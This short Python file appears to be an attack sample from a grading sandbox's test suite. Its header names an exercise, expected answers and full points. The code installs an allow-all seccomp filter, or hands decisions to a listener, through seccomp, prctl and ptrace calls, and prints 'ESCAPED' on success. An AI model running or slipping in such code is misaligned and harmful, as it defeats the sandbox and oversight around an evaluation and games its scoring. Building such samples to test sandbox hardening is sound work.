# /// attack
# tries = "Puts a filter of its own over the sandbox's, one that allows all or asks somebody else."
# exercise = "ex02_zero_padding"
# answers = "right"
# points = "all"
# outcomes = ["passed"]
# ///
import ctypes
import platform
import struct

_libc = ctypes.CDLL(None, use_errno=True)
_allow = ctypes.create_string_buffer(struct.pack("<HBBI", 6, 0, 0, 0x7FFF0000))
_filter = ctypes.create_string_buffer(struct.pack("<HxxxxxxQ", 1, ctypes.addressof(_allow)))
_LISTENER = 8


def _attempt():
    for name, *call in (
        ("seccomp", 317, 1, 0, _filter),
        ("seccomp with a listener", 317, 1, _LISTENER, _filter),
        ("seccomp of the whole process", 317, 1, 1, _filter),
        ("prctl", 157, 22, 2, _filter, 0, 0),
        ("ptrace, suspend seccomp", 101, 0x4206, 1, 0, 1 << 21),
    ):
        if _libc.syscall(*call) >= 0:
            print("ESCAPED", name)


if platform.machine() == "x86_64":
    _attempt()
